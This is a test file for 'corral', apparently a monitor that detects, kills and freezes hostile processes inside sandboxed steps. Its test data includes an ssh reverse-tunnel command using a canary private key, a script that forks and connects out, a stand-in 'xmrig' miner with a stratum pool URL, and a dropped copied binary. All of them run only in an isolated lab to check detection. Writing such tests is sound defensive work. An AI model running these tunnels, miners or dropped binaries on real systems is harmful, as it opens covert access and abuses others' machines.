"""Response end to end: rule actions on real processes, in enforce and observe mode.

Test hosts live in the lab (tests/netlab.py): namespaces with no route out.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from netlab import TestNet, assert_no_route_out

from corral import Monitor, Sandbox
from corral.respond.actions import descendants
from corral.sandbox import cgroups
from corral.sandbox.runner import RECENT_STEPS, SandboxFrozen
from corral.store import Recorder, open_store

RULES = Path(__file__).parent / "rules" / "respond.yaml"
SSHD = "198.51.100.10"
SSHD_PORT = 2222


@pytest.fixture(scope="module")
def lab() -> Iterator[TestNet]:
    with TestNet() as net:
        yield net


@pytest.fixture(scope="module")
def monitor() -> Iterator[Monitor]:
    """A monitor of this module's own, so its pipeline loads tests/rules/respond.yaml."""
    with Monitor() as mon:
        yield mon


@pytest.fixture(scope="module")
def sshd(lab: TestNet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path]]:
    """A real OpenSSH server in the lab that logs every forwarding request;
    returns (its authorized_keys file, its log)."""
    if not Path("/usr/sbin/sshd").exists():
        pytest.skip("needs openssh-server")
    d = tmp_path_factory.mktemp("sshd")
    key, keys, log = d / "host_key", d / "authorized_keys", d / "sshd.log"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    keys.write_text("")
    (d / "sshd_config").write_text(
        f"ListenAddress {SSHD}:{SSHD_PORT}\nHostKey {key}\nPidFile none\nUsePAM no\nStrictModes no\n"
        f"PubkeyAuthentication yes\nAuthorizedKeysFile {keys}\nPasswordAuthentication no\n"
        "KbdInteractiveAuthentication no\nPermitRootLogin prohibit-password\nAllowTcpForwarding yes\n"
        "LogLevel DEBUG1\n")
    # sshd wants /run/sshd: `ip netns exec` gives it a mount namespace where a tmpfs hides nothing from the host.
    lab.start_server(lab.server, ["sh", "-c", "mount -t tmpfs tmpfs /run && mkdir -m 755 /run/sshd && "
                                  f"exec /usr/sbin/sshd -D -E {log} -f {d / 'sshd_config'}"])
    for _ in range(100):
        if lab.attempt("tcp", SSHD, SSHD_PORT) == "OK":
            break
        time.sleep(0.1)
    yield keys, log


def _reverse_tunnel(sb: Sandbox, keys: Path) -> str:
    """Let the sandbox's own (canary) key in, then ask for a reverse tunnel."""
    pub = next(c for c in sb.canaries if c.kind == "ssh_private_key").path.with_suffix(".pub")
    keys.write_text(pub.read_text())
    return (f"timeout 4 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
            f"-o ExitOnForwardFailure=yes -N -R 18080:localhost:22 -p {SSHD_PORT} root@{SSHD}; echo exit=$?")


def test_reverse_tunnel_is_established_in_observe_mode_only(lab: TestNet, sshd: tuple[Path, Path]) -> None:
    keys, log = sshd
    assert_no_route_out(lab.client)  # observe mode blocks nothing: prove nothing can leak
    with Sandbox(netns=lab.client, mode="observe") as sb:
        sb.exec(_reverse_tunnel(sb, keys))
        sb.flush_events()
    assert "tcpip-forward" in log.read_text()  # the control: without corral acting, it works
    tunnel = [a for a in sb.alerts if a.category == "tunnel"]
    assert tunnel and all(a.action_taken.startswith("would ") for a in sb.alerts if a.action != "alert")

    log.write_text("")
    with Sandbox(netns=lab.client, allow=[f"{SSHD}:{SSHD_PORT}"]) as sb:  # egress allowed: the rule must act
        result = sb.exec(_reverse_tunnel(sb, keys))
        sb.flush_events()
    assert "tcpip-forward" not in log.read_text()
    assert "exit=137" in result.stdout  # ssh was SIGKILLed
    acted = [a for a in sb.alerts if a.category == "tunnel" and a.action_taken == "kill_tree"]
    assert acted and acted[0].action_result.startswith("killed")
    assert sb.verdict()["worst_severity"] == "critical" and "tunnel" in sb.verdict()["categories"]


FORKER = """\
import os, socket, time
for _ in range(2):
    if os.fork() == 0:  # off the step's output pipes, which exec() reads to their end
        null = os.open("/dev/null", os.O_WRONLY)
        os.dup2(null, 1)
        os.dup2(null, 2)
        time.sleep(30)
        os._exit(0)
time.sleep(0.2)
socket.socket().connect_ex(("127.0.0.1", 1))
time.sleep(5)
"""


def _forks_then_connects(sb: Sandbox, marker: str) -> list[str]:
    """A process that starts two children, then connects (which is what the
    marker rules act on), then waits: exit 137 if it was killed.  A script
    file, not `python3 -c`: inline code like this is a reverse shell's shape."""
    script = sb.workspace / "forker.py"
    script.write_text(FORKER)
    script.chmod(0o644)
    return ["python3", "/workspace/forker.py", marker]


def test_kill_takes_the_process_kill_tree_its_descendants(monitor: Monitor) -> None:
    with Sandbox(monitor=monitor, rules=[RULES]) as sb:
        sb.exec("sleep 30 >/dev/null 2>&1 &")  # a bystander in step 1: never touched
        killed = sb.exec(_forks_then_connects(sb, "corral-test-kill"))
        sb.flush_events()
        orphans = sb.exec(["pgrep", "-c", "-f", "corral-test-kill"]).stdout.strip()
        tree = sb.exec(_forks_then_connects(sb, "corral-test-tree"))
        sb.flush_events()
        left = [sb.exec(["pgrep", "-c", "-f", "corral-test-tree"]).stdout.strip(),
                sb.exec(["pgrep", "-c", "-x", "sleep"]).stdout.strip()]
    assert killed.exit_code == 137 and tree.exit_code == 137
    assert orphans == "2"  # kill took the process alone: its children live on
    assert left == ["0", "2"]  # kill_tree took its children too; the bystander (and the holder's) live
    (kill,) = [a for a in sb.alerts if a.rule == "Test kill marker"]
    (kill_tree,) = [a for a in sb.alerts if a.rule == "Test kill_tree marker"]
    assert (kill.action_taken, kill.action_result) == ("kill", "killed")
    assert (kill_tree.action_taken, kill_tree.action_result) == ("kill_tree", "killed 3 processes")


def test_kill_tree_kills_when_the_sandbox_will_not_freeze(monitor: Monitor, monkeypatch: pytest.MonkeyPatch) -> None:
    """The fault: a sandbox the kernel cannot freeze (a process in uninterruptible sleep), stood in
    for by a freezer that never reports done.  kill_tree still kills the tree, says it did so
    without freezing first, and leaves the sandbox running, not half frozen."""
    monkeypatch.setattr(cgroups, "_TIMEOUT_S", 0.2)
    monkeypatch.setattr(cgroups, "_v1_state", lambda cgroup: "FREEZING")
    monkeypatch.setattr(cgroups, "_v2_frozen", lambda cgroup: False)
    with Sandbox(monitor=monitor, rules=[RULES]) as sb:
        tree = sb.exec(_forks_then_connects(sb, "corral-test-tree"))
        sb.flush_events()
        left = sb.exec(["pgrep", "-c", "-f", "corral-test-tree"], timeout=20)
    assert tree.exit_code == 137 and left.stdout.strip() == "0"
    (kill_tree,) = [a for a in sb.alerts if a.rule == "Test kill_tree marker"]
    assert kill_tree.action_result.startswith("killed 3 processes, without freezing first (")
    assert "(undone: thawed)" in kill_tree.action_result


def test_descendants_follows_parent_links() -> None:
    parent = subprocess.Popen(["sh", "-c", "sleep 30 & sleep 30 & wait"])
    try:
        time.sleep(0.2)
        kids = Path(f"/proc/{parent.pid}/task/{parent.pid}/children").read_text().split()
        unrelated = subprocess.Popen(["sleep", "30"])
        found = descendants(parent.pid, [parent.pid, *map(int, kids), unrelated.pid])
        assert sorted(found) == sorted(map(int, kids))
    finally:
        for p in (parent,):
            p.kill()
            p.wait()
        unrelated.kill()
        unrelated.wait()
        for kid in kids:
            subprocess.run(["kill", "-9", kid], capture_output=True)


def test_freeze_keeps_the_sandbox_frozen_with_evidence(monitor: Monitor) -> None:
    with Sandbox(monitor=monitor, rules=[RULES]) as sb:
        sb.exec("echo hello > /workspace/notes.txt; cp /bin/sleep /tmp/dropped && /tmp/dropped 30 >/dev/null 2>&1 &")
        with pytest.raises(SandboxFrozen):
            sb.exec(["sh", "-c", "echo 1 > /workspace/progress; sleep 0.5; echo 2 > /workspace/progress",
                     "corral-test-freeze"])
        sb.flush_events()
        (alert,) = [a for a in sb.alerts if a.rule == "Test freeze marker"]
        assert alert.action_taken == "freeze" and sb.frozen and sb.cgroup.frozen
        progress = sb.workspace / "progress"
        # frozen at its exec: before it could write 2 (and, often, before it wrote 1)
        assert (progress.read_text() if progress.exists() else "") in ("", "1\n")
        bundle = json.loads(Path(alert.action_result.split("evidence in ")[1]).read_text())
        with pytest.raises(Exception, match="frozen"):
            sb.exec("true")
        sb.release()
        assert sb.exec("true").exit_code == 0
    guilty = next(p for p in bundle["processes"] if p["pid"] == alert.pid)
    assert guilty["step"] == 2 and "corral-test-freeze" in guilty["argv"]
    assert bundle["alert"]["rule"] == "Test freeze marker"
    assert any(b["path"] == "/tmp/dropped" and b["copied"] for b in bundle["binaries"])
    notes = next(f for f in bundle["workspace"] if f["path"] == "notes.txt")
    assert notes["sha256"] == hashlib.sha256(b"hello\n").hexdigest()
    assert any(e["kind"] == "exec" for e in bundle["recent_events"])


@pytest.mark.parametrize("then", ["released", "closed"])
def test_a_frozen_steps_end_is_recorded(monitor: Monitor, tmp_path: Path, then: str) -> None:
    """exec() returns as soon as a freeze stops the step; the step itself ends later, when it is
    released and finishes, or when close() kills it, and the store records that end."""
    recorder = Recorder(open_store(tmp_path))
    try:
        with Sandbox(monitor=monitor, rules=[RULES], recorder=recorder) as sb:
            try:
                sb.exec(["sh", "-c", "sleep 2; exit 3", "corral-test-freeze"])  # frozen long before 2 s
            except SandboxFrozen:
                pass
            else:
                pytest.fail(f"not frozen: {[(a.rule, a.action_result) for a in sb.alerts]}")
            if then == "released":
                sb.release()
                deadline = time.monotonic() + 20  # the step's own 2 s, once thawed
                while not recorder.flush() or recorder.store.steps(sb.name)[0]["ended_ns"] is None:
                    assert time.monotonic() < deadline, "the released step's end was never recorded"
                    time.sleep(0.05)
        recorder.flush()
        (step,) = recorder.store.steps(sb.name)
    finally:
        recorder.close()
    assert (step["step"], step["exit_code"]) == (1, 3 if then == "released" else 137)
    assert step["ended_ns"] >= step["started_ns"]


def test_evidence_keeps_the_steps_active_last(monitor: Monitor) -> None:
    """An episode of many steps: evidence keeps the last events of the steps that were active
    last, not of every step; a detached process of step 1 that acts after 70 more steps still has
    its step's history in the bundle."""
    with Sandbox(monitor=monitor, rules=[RULES]) as sb:
        sb.put_file("/workspace/later.sh", "while [ ! -e /workspace/go ]; do sleep 0.05; done\n"
                                           "exec sh -c true corral-test-freeze\n")
        sb.exec("sh /workspace/later.sh >/dev/null 2>&1 &")
        for _ in range(RECENT_STEPS + 6):
            sb.exec("true")
        assert len(sb._recent) <= RECENT_STEPS  # (private: the bound itself is what is tested)
        with contextlib.suppress(SandboxFrozen):
            sb.exec("touch /workspace/go; sleep 5")
        sb.flush_events()
        (alert,) = [a for a in sb.alerts if a.rule == "Test freeze marker"]
        bundle = json.loads(Path(alert.action_result.split("evidence in ")[1]).read_text())
    assert alert.step == 1
    assert any(e["kind"] == "exec" and e.get("argv") == ["sh", "/workspace/later.sh"] for e in bundle["recent_events"])


def test_observe_mode_records_what_it_would_do(monitor: Monitor) -> None:
    with Sandbox(monitor=monitor, rules=[RULES], mode="observe") as sb:
        r = sb.exec(_forks_then_connects(sb, "corral-test-kill"))
        sb.flush_events()
    assert r.exit_code == 0
    (alert,) = [a for a in sb.alerts if a.rule == "Test kill marker"]
    assert alert.action_taken == "would kill" and "observe" in alert.action_result
    assert sb.verdict()["actions"][0]["taken"] == "would kill"


def test_verdict_risk_formula(monitor: Monitor) -> None:
    with Sandbox(monitor=monitor, rules=[RULES], mode="observe") as sb:
        for _ in range(3):  # one rule three times counts once
            sb.exec(_forks_then_connects(sb, "corral-test-kill"))
        sb.flush_events()
        v = sb.verdict()
    assert v["rules"] == ["Test kill marker"] and v["alerts"] == 3
    assert v["risk"] == 0.2 and v["worst_severity"] == "medium"
    assert sorted(v["alerts_by_step"]) == ["1", "2", "3"]


def test_miner_on_the_deny_list_never_runs() -> None:
    with Sandbox() as sb:
        miner = sb.workspace / "xmrig"
        miner.write_text("#!/bin/sh\ntouch /workspace/MARKER\n")  # its first action would leave a mark
        miner.chmod(0o755)
        result = sb.exec(["/workspace/xmrig", "--donate-level", "1"])
        renamed = sb.exec(["sh", "-c", "cp /workspace/xmrig /tmp/helper && /tmp/helper -o stratum+tcp://x:3333"])
        sb.flush_events()
        marked = (sb.workspace / "MARKER").exists()
    assert result.exit_code == 137 and renamed.exit_code == 137  # killed at execve, before the image ran
    assert not marked
    blocked = [a for a in sb.alerts if a.rule == "Miner stopped before it ran"]
    assert {a.step for a in blocked} == {1, 2} and all(a.category == "cryptomining" for a in blocked)
    assert all(a.event.data["enforced"] for a in blocked)


def test_observe_mode_lets_the_denied_program_run_and_says_so() -> None:
    with Sandbox(mode="observe") as sb:
        miner = sb.workspace / "xmrig"
        miner.write_text("#!/bin/sh\ntouch /workspace/MARKER\n")
        miner.chmod(0o755)
        result = sb.exec(["/workspace/xmrig"])
        sb.flush_events()
        marked = (sb.workspace / "MARKER").exists()
    assert result.exit_code == 0 and marked
    (blocked,) = [a for a in sb.alerts if a.rule == "Miner stopped before it ran"]
    assert blocked.event.data["enforced"] is False
